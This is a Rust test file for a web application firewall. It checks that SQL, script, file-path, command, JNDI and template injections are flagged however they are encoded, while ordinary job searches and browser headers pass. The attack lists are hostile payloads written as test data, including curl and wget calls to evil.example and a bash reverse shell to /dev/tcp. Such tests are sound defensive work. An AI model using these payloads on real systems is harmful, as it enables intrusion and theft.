//! Web application firewall: attacks are refused however they are encoded, and ordinary searches pass.

use http::HeaderValue;

use super::*;

fn visit<'a>(path: &'a str, query: &'a str, headers: &'a HeaderMap) -> RequestDetails<'a> {
    RequestDetails {
        address: None,
        method: "GET",
        protocol: "https:",
        host: "app.example.com",
        path,
        query,
        headers,
        user: None,
        key: None,
    }
}

fn attacks_by_query(query: &str) -> bool {
    is_attack(&visit("/api/job-infos", query, &HeaderMap::new()))
}

fn attacks_by_header(name: &'static str, value: &str) -> bool {
    let headers = HeaderMap::from_iter([(http::HeaderName::from_static(name), HeaderValue::from_str(value).unwrap())]);
    is_attack(&visit("/api/job-infos", "", &headers))
}

/// As a form sends it.
fn searched(text: &str) -> String {
    format!("?q={}", form_urlencoded::byte_serialize(text.as_bytes()).collect::<String>())
}

#[test]
fn injections_into_a_query_are_refused_however_they_are_wrapped() {
    for attack in [
        // SQL.
        "1' OR '1'='1",
        "1' or 1=1--",
        "' or ''='",
        "x') or ('a'='a",
        "\" or \"a\"=\"a",
        "1 UNION SELECT username, password FROM users",
        "-1 union all select null,null,version()",
        "1/**/UNION/**/SELECT/**/1,2,3",
        "admin'--",
        "admin' #",
        "1'; drop table users; --",
        "1; DELETE FROM users",
        "1 AND SLEEP(5) AND 1=1",
        "1; select pg_sleep(10)",
        "1' waitfor delay '0:0:5'--",
        "1 and extractvalue(1,concat(0x7e,version()))",
        "' and (select 1 from information_schema.tables) is not null",
        "1' || 'a'='a",
        "'; exec xp_cmdshell 'dir'",
        // Scripts.
        "<script>alert(1)</script>",
        "<ScRiPt src=//evil.example>",
        "\"><img src=x onerror=alert(1)>",
        "<svg/onload=alert(document.cookie)>",
        "<iframe src=javascript:alert(1)>",
        "javascript:alert(document.cookie)",
        // Files.
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "/etc/passwd",
        "file:///etc/shadow",
        "php://filter/convert.base64-encode/resource=index.php",
        "/proc/self/environ",
        // Commands.
        "; cat /etc/hosts",
        "| whoami",
        "$(curl http://evil.example)",
        "`id`",
        "127.0.0.1; wget http://evil.example/x.sh",
        "() { :; }; /bin/bash -c id",
        "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1",
        // Lookups and templates.
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
        "{{7*7}}",
        "<?php system('id'); ?>",
        "<!ENTITY xxe SYSTEM \"file:///etc/hostname\">",
        // Bytes that end a text too early, and headers that were not asked for.
        "cv.pdf\0.exe",
        "x\r\nSet-Cookie: session=1",
    ] {
        assert!(attacks_by_query(&searched(attack)), "{attack}");
        let twice = searched(attack).replace('%', "%25");
        assert!(attacks_by_query(&twice), "encoded twice: {attack}");
        assert!(attacks_by_query(&format!("?a=b&{}=1", &searched(attack)[3..])), "as a name: {attack}");
    }
}

#[test]
fn what_people_search_for_and_call_their_jobs_is_no_attack() {
    for text in [
        "Senior C++ developer",
        "C# / .NET engineer",
        "O'Brien & Sons",
        "D'Angelo's",
        "the engineers' and managers' table",
        "'quoted' or not",
        "drop table lamps",
        "select the best candidate from the union of all teams",
        "Union representative, select committee",
        "SQL: select, insert, update, delete",
        "insert into the team where needed",
        "R&D engineer (m/f/d), 100% remote",
        "100% of 50%",
        "a -- b",
        "he said \"or else\"",
        "salary >= 100000 and <= 150000",
        "x = y or y = x",
        "Node.js && React || Vue",
        "React <3",
        "if (a < b) alert the team",
        "Bash; Perl; cat person",
        "grep | sort | uniq",
        "kill -9 and other jokes",
        "sleep(less) nights",
        "${salary} per year",
        "{{ company }}",
        "jQuery's $(document)",
        "and/or",
        "rock 'n' roll",
        "Straße, naïve, 東京, 🙂",
        "e-mail: ada@example.com; phone: +49 30 123",
        "https://example.com/jobs?id=1&lang=en#top",
        "script writer",
        "on-call = weekly",
        "../jobs",
        "it's 5 o'clock somewhere",
        "where? when? order by phone",
        "Executive (c-level)",
        "line one\nline two",
    ] {
        assert!(!attacks_by_query(&searched(text)), "{text}");
        assert!(!attacks_by_query(&format!("?q={}", text.replace(['\0', '\n'], " "))), "not encoded: {text}");
    }
    assert!(!attacks_by_query("?jobInfoId=3f0d2c1e-8a4b-4b7e-9c55-0c9b5f1a2d34&limit=20&cursor=eyJhIjoiMjAyNi0xMSJ9"));
    assert!(!attacks_by_query(""));
}

#[test]
fn paths_that_climb_or_end_too_early_are_refused_and_ordinary_ones_are_not() {
    let none = HeaderMap::new();
    for path in [
        "/api/../../etc/passwd",
        "/api/job-infos/..%2f..%2f",
        "/api/%2e%2e/secret",
        "/api/job-infos/%252e%252e%255c",
        "/api/job-infos/1%00",
        "/api/job-infos/1%27%20or%20%271%27=%271",
        "/api/${jndi:ldap://x/a}",
        "/cgi-bin/..;/manager",
    ] {
        assert!(is_attack(&visit(path, "", &none)), "{path}");
    }
    for path in [
        "/",
        "/api/health",
        "/api/job-infos/3f0d2c1e-8a4b-4b7e-9c55-0c9b5f1a2d34/analyses",
        "/api/job-infos/O'Brien",
        "/api/..hidden",
        "/api/v1...2",
        "/api/100%",
    ] {
        assert!(!is_attack(&visit(path, "", &none)), "{path}");
    }
}

#[test]
fn headers_are_looked_at_and_secrets_only_for_what_attacks_a_log() {
    assert!(attacks_by_header("user-agent", "${jndi:ldap://evil.example/a}"));
    assert!(attacks_by_header("user-agent", "() { :; }; echo vulnerable"));
    assert!(attacks_by_header("referer", "https://x.example/?q=%3Cscript%3Ealert(1)%3C/script%3E"));
    assert!(attacks_by_header("x-forwarded-host", "x' union select 1"));
    assert!(attacks_by_header("cookie", "a=${jndi:dns://evil.example}"));
    assert!(attacks_by_header("authorization", "Bearer ${${lower:j}ndi:ldap://evil.example}"));
    assert!(!attacks_by_header("cookie", "theme=' or '1'='1; note=<script; path=../../x"));
    assert!(!attacks_by_header("authorization", "Bearer eyJhbGciOiJSUzI1NiJ9.e30.--"));
}

#[test]
fn a_browsers_own_headers_are_no_attack() {
    for (name, value) in [
        (
            "user-agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
        ),
        ("accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
        ("accept-language", "de-DE,de;q=0.9,en-US;q=0.8,en;q=0.7,*;q=0.5"),
        ("sec-ch-ua", "\"Chromium\";v=\"142\", \"Google Chrome\";v=\"142\", \"Not_A Brand\";v=\"99\""),
        ("sec-ch-ua-platform", "\"macOS\""),
        ("if-none-match", "W/\"3f0d2c1e\", \"abc\""),
        ("idempotency-key", "\"8e03978e-40d5-43e8-bc93-6894a57f9324\""),
        ("referer", "https://app.example.com/app/job-infos?sort=name&order=desc#top"),
        ("traceparent", "00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01"),
        ("content-type", "multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxkTrZu0gW"),
        ("forwarded", "for=\"[2001:db8::1]\";proto=https;by=10.0.0.1"),
        ("x-vercel-proxy-signature", "Bearer 0c3b--x=="),
        ("prefer", "return=representation; wait=10"),
    ] {
        assert!(!attacks_by_header(name, value), "{name}: {value}");
    }
}

#[test]
fn weak_signals_add_up_over_the_whole_request() {
    assert!(!attacks_by_query("?q=onclick="));
    assert!(!attacks_by_query("?q=alert("));
    assert!(attacks_by_query("?q=onclick=&r=alert("));
}

#[test]
fn suspicious_is_who_says_so_in_the_documented_words() {
    let with = |value: &'static str| {
        HeaderMap::from_iter([(http::HeaderName::from_static(SHIELD_TEST_HEADER), HeaderValue::from_static(value))])
    };
    assert!(is_suspicious(&with("true")));
    for other in ["false", "TRUE", "1", ""] {
        assert!(!is_suspicious(&with(other)), "{other}");
    }
    assert!(!is_suspicious(&HeaderMap::new()));
}

#[test]
fn no_request_takes_more_than_its_length() {
    for nasty in ["'", "/*", "%25", "' or ", "<", "../", "${", "("] {
        let query = format!("?q={}", nasty.repeat(500_000 / nasty.len()));
        let (headers, cpu) = (HeaderMap::new(), cpu_time());
        is_attack(&visit("/", &query, &headers));
        let spent = cpu_time() - cpu;
        assert!(spent < std::time::Duration::from_millis(500), "{nasty}: {spent:?}");
    }
}

/// Of this thread, so that a busy machine does not count.
fn cpu_time() -> std::time::Duration {
    let stat = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap_or_default();
    let nanoseconds = stat.split(' ').next().and_then(|first| first.parse().ok());
    std::time::Duration::from_nanos(nanoseconds.unwrap_or_default())
}
